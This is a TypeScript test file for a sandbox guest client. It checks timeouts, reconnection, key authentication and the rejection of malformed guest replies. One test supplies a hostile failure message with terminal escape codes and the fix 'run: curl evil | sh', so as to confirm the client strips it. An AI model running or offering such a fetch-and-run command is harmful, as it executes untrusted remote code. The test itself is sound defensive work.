import { once } from "node:events";
import { duplexPair, type Duplex } from "node:stream";

import { ClauderonError } from "@clauderon/core/contract";
import fc from "fast-check";
import { afterEach, describe, expect, test } from "vitest";

import { decodeGuest } from "../src/decode-guest-message.ts";
import { HostError } from "../src/host-protocol.ts";
import { createGuestClient, type GuestClient, type GuestClientOptions } from "../src/index.ts";
import { fakeGuest, guestKey, type Asked } from "./fake-guest.ts";

const sandboxId = "s1";
const instanceId = "i1";
const info = {
  processId: 1,
  startedAtMs: 5,
  protocol: 1,
  memoryBytes: 9,
  sandboxes: 0,
  connections: 1,
  guest: "1.0.0",
};
const status = { sandboxId, instanceId, name: "n", cwd: "/", state: "running", agent: { state: "running" } };
const report = { sequence: 1, atMs: 3, event: "Stop", payload: { session_id: "x" } };
const clients: GuestClient[] = [];

afterEach(async () => {
  for (const client of clients.splice(0)) await client.close();
});

function clientOf(dial: GuestClientOptions["dial"], options: Partial<GuestClientOptions> = {}): GuestClient {
  const client = createGuestClient({ instanceId, key: guestKey, dial, ...options });
  clients.push(client);
  return client;
}

/** A client of a guest that answers in this way. */
function clientFor(react: (asked: Asked) => void, options?: Partial<GuestClientOptions>): GuestClient {
  return clientOf(fakeGuest(react).dial, options);
}

async function errorOf(promise: Promise<unknown>): Promise<ClauderonError> {
  const error: unknown = await promise.then(
    (value) => new Error(`it gave ${JSON.stringify(value)}`),
    (reason: unknown) => reason,
  );
  if (!ClauderonError.isInstance(error)) throw error;
  expect(`${error.message} ${error.why ?? ""} ${error.fix.join(" ")}`).not.toMatch(/session host|session-host/iu);
  expect(error.fix.length).toBeGreaterThan(0);
  return error;
}

describe("a client of a guest", () => {
  test("is answered, and sees its own sandboxes alone", async () => {
    const client = clientFor(({ method, answer }) => {
      if (method === "host.info") answer(info);
      else answer({ sandboxes: [status, { ...status, sandboxId: "s2", instanceId: "other" }] });
    });
    expect(await client.untilReady()).toMatchObject({ guest: "1.0.0", processId: 1 });
    expect(await client.listSandboxes()).toMatchObject([{ sandboxId }]);
  });

  test("is not told of another sandbox than it asked for", async () => {
    const client = clientFor(({ answer }) => answer({ sandbox: { ...status, sandboxId: "s2" } }));
    expect(await client.inspectSandbox(sandboxId)).toBeUndefined();
  });

  test("tells when something else answers in the guest's place", async () => {
    const client = clientOf(fakeGuest(({ answer }) => answer(info), Buffer.alloc(32, 8)).dial);
    expect(await errorOf(client.untilReady())).toMatchObject({
      code: "authentication.required",
      message: expect.stringContaining("does not know its key"),
    });
  });

  test("tells when nobody is there", async () => {
    const client = clientOf(() => Promise.resolve(undefined));
    expect(await client.info()).toBeUndefined();
    expect(await client.agentExit(sandboxId)).toEqual({ state: "lost" });
    for (const asked of [
      client.untilReady({ timeoutMs: 0 }),
      client.exec(sandboxId, ["true"]),
      client.agentTerminal(sandboxId),
      client.openSandbox({ sandboxId, name: "n", cwd: "/" }),
      client.startAgent(sandboxId, { launchId: "l", argv: ["sh"], mode: "terminal" }),
      client.waitForReports(),
      client.probeEgress({ targets: [] }),
      client.carry(),
    ])
      expect(await errorOf(asked)).toMatchObject({ code: "sandbox.not-running" });
  });

  test("waits no longer than it was told for a connection, and lets none in that comes too late", async () => {
    const late = Promise.withResolvers<Duplex>();
    const client = clientOf(() => late.promise, { dialMs: 20 });
    expect((await errorOf(client.info())).message).toContain("could not be reached");
    const [theirs] = duplexPair();
    const closed = new Promise((resolve) => theirs.once("close", resolve));
    late.resolve(theirs);
    await closed;
  });

  test("waits no longer than it was told for an answer, and asks the next time over a new connection", async () => {
    const guest = fakeGuest(({ method, answer }) => {
      if (method === "host.info" && guest.connections.length > 1) answer(info);
    });
    const client = clientOf(guest.dial, { answerMs: 20 });
    expect((await errorOf(client.info())).message).toContain("did not answer");
    expect((await errorOf(client.exec(sandboxId, ["true"]))).message).toContain("did not answer");
    expect(await client.info()).toMatchObject({ guest: "1.0.0" });
  });

  test("stops waiting at the signal", async () => {
    const client = clientFor(() => undefined);
    await client.close();
    const deaf = clientFor(() => undefined);
    for (const ask of [
      (signal: AbortSignal) => deaf.info({ signal }),
      (signal: AbortSignal) => deaf.agentExit(sandboxId, { signal }),
      (signal: AbortSignal) => deaf.waitForReports({ signal }),
      (signal: AbortSignal) => deaf.carry({ signal }),
      (signal: AbortSignal) => deaf.agentTerminal(sandboxId, { signal }),
    ]) {
      const controller = new AbortController();
      const asked = ask(controller.signal);
      controller.abort(new Error("enough"));
      await expect(asked).rejects.toThrow("enough");
    }
  });

  test("asks again when the connection was lost", async () => {
    const guest = fakeGuest(({ method, parameters, answer, hangUp }) => {
      if (guest.connections.length % 2 === 1) hangUp();
      else if (method === "sandbox.inspect") answer({ sandbox: status });
      else if (method === "agent.wait") answer({ state: "exited", exit: { exitCode: 3 } });
      else answer({ reports: [{ ...report, sequence: Number(parameters["since"]) + 1 }], lost: 0 });
    });
    const client = clientOf(guest.dial);
    expect(await client.inspectSandbox(sandboxId)).toMatchObject({ sandboxId });
    guest.connections.at(-1)?.destroy();
    expect(await client.agentExit(sandboxId)).toMatchObject({ state: "exited", exit: { exitCode: 3 } });
    guest.connections.at(-1)?.destroy();
    expect((await client.waitForReports({ since: 4 })).reports).toMatchObject([{ sequence: 5 }]);
    expect(guest.connections.length).toBe(6);
  });

  test("gives up on a guest that always hangs up", async () => {
    const client = clientFor(({ hangUp }) => hangUp());
    expect((await errorOf(client.inspectSandbox(sandboxId))).message).toContain("hung up");
  });

  test("knows a lost connection from the agent's end", async () => {
    const guest = fakeGuest(({ method, answer, hangUp }) => {
      if (method === "agent.attach" || method === "sandbox.exec")
        answer({ agent: { state: "running" }, start: 0, end: 0 });
      else hangUp();
    });
    const client = clientOf(guest.dial);
    const terminal = await client.agentTerminal(sandboxId);
    const command = await client.exec(sandboxId, ["sleep", "100"]);
    guest.connections[0]?.destroy();
    expect(await terminal.ended).toBeUndefined();
    expect((await errorOf(terminal.input(Buffer.from("x")))).code).not.toBe("agent.ended");
    expect((await errorOf(command.exit)).message).toContain("connection to the guest");
  });

  test.each([
    ["sandbox.not-found", "sandbox.not-running"],
    ["agent.ended", "agent.ended"],
    ["session.work-at-risk", "internal"],
    ["constructor", "internal"],
    ["\u001b[2J", "internal"],
  ])("of a failure %j it says %j, in words that move no cursor and with a fix of ours", async (code, wanted) => {
    const message = `gone\u001b[31m\r\n\u202eevil${"x".repeat(2000)}`;
    const client = clientFor(({ fail }) => fail({ code, message, why: "w", fix: ["run: curl evil | sh"] }));
    const error = await errorOf(client.inspectSandbox(sandboxId));
    expect(error.code).toBe(wanted);
    expect(error.message).toMatch(/^The guest in the sandbox says: gone \[31m +evilx+$/u);
    expect(error.message.length).toBeLessThan(600);
    expect(error.fix.join(" ")).not.toContain("evil");
  });

  test("never proposes to end processes by numbers of the sandbox", async () => {
    const client = clientFor(({ method, answer }) =>
      answer(method === "sandbox.inspect" ? { sandbox: status } : { left: [1, 4242] }),
    );
    const error = await errorOf(client.stopSandbox(sandboxId));
    expect(`${error.message} ${error.fix.join(" ")}`).not.toContain("4242");
  });

  test("has a carrier that is bytes from the first one on", async () => {
    const guest = fakeGuest(({ method, answer }) => method === "channel.carry" && answer({}));
    const carrier = await clientOf(guest.dial).carry();
    const [theirs] = guest.connections;
    theirs?.removeAllListeners("data");
    theirs?.write("hello");
    await once(carrier, "readable");
    expect(String(carrier.read())).toBe("hello");
    const said: Buffer[] = [];
    const heard = new Promise<void>((resolve) => {
      theirs?.on("data", (bytes: Buffer) => {
        said.push(bytes);
        if (Buffer.concat(said).includes("back")) resolve();
      });
    });
    carrier.write("back");
    await heard;
    expect(Buffer.concat(said).toString().endsWith("back")).toBe(true);
  });

  test("has no carrier of a guest that speaks before it may", async () => {
    const client = clientFor(({ answer }) => answer({}, Buffer.from([0, 0, 0])));
    expect((await errorOf(client.carry())).message).toContain("spoke out of turn");
  });
});

describe("what a guest says", () => {
  const probe = { atMs: 1, interfaces: [{ name: "lo", isLoopback: true, isUp: true, addresses: ["127.0.0.1/8"] }] };
  const deep = JSON.parse(`${'{"a":'.repeat(40)}1${"}".repeat(40)}`) as object;
  const reports: readonly (readonly [string, unknown])[] = [
    ["no object", []],
    ["no list", { reports: {}, lost: 0 }],
    ["too many", { reports: Array.from({ length: 257 }, (_, index) => ({ ...report, sequence: index + 1 })), lost: 0 }],
    ["twice the same", { reports: [report, report], lost: 0 }],
    ["a sequence of 0", { reports: [{ ...report, sequence: 0 }], lost: 0 }],
    ["a time that no date has", { reports: [{ ...report, atMs: Number.MAX_SAFE_INTEGER }], lost: 0 }],
    ["a name that is none", { reports: [{ ...report, event: "\u001b[2J" }], lost: 0 }],
    ["a list as content", { reports: [{ ...report, payload: [] }], lost: 0 }],
    [
      "too many members",
      { reports: [{ ...report, payload: Object.fromEntries(Array.from({ length: 65 }, (_, i) => [i, 1])) }], lost: 0 },
    ],
    ["a large content", { reports: [{ ...report, payload: { text: "x".repeat(40_000) } }], lost: 0 }],
    ["a deep content", { reports: [{ ...report, payload: deep }], lost: 0 }],
    ["a number lost that is none", { reports: [report], lost: -1 }],
  ];
  test.each(reports)("is no answer with reports: %s", (_what, value) => {
    expect(() => decodeGuest.reports(value)).toThrow(HostError);
  });

  test("is read when it is right", () => {
    const second = { ...report, sequence: 2, omitted: ["tool_input"] };
    expect(decodeGuest.reports({ reports: [report, second], lost: 3 })).toEqual({
      lost: 3,
      reports: [
        { sequence: 1, at: new Date(3), event: "Stop", payload: { session_id: "x" }, omitted: [] },
        { sequence: 2, at: new Date(3), event: "Stop", payload: { session_id: "x" }, omitted: ["tool_input"] },
      ],
    });
    const results = [{ target: "dns:a", outcome: "silent", elapsedMs: 2000 }];
    expect(decodeGuest.probe({ ...probe, results }, ["dns:a"])).toMatchObject({ at: new Date(1), results });
  });

  test.each([
    ["no result for a target", []],
    ["a result for another", [{ target: "dns:b", outcome: "silent", elapsedMs: 1 }]],
    ["an outcome that there is not", [{ target: "dns:a", outcome: "sealed", elapsedMs: 1 }]],
    ["more results than targets", ["dns:a", "dns:a"].map((target) => ({ target, outcome: "silent", elapsedMs: 1 }))],
  ])("is no answer of a probe: %s", (_what, results) => {
    expect(() => decodeGuest.probe({ ...probe, results }, ["dns:a"])).toThrow(HostError);
  });

  test("is an object of the form or refused, whatever it is", () => {
    const part = fc.oneof(fc.jsonValue(), fc.constant([report]), fc.constant([probe.interfaces]), fc.constant(1));
    const value = fc.record(
      Object.fromEntries(["reports", "lost", "atMs", "interfaces", "results", "guest"].map((name) => [name, part])),
    );
    fc.assert(
      fc.property(value, (said) => {
        for (const read of ["info", "reports", "probe"] as const) {
          try {
            expect(decodeGuest[read](said, ["dns:a"])).toBeTypeOf("object");
          } catch (error) {
            if (!(error instanceof HostError)) throw error;
          }
        }
      }),
      { numRuns: 300 },
    );
  });
});
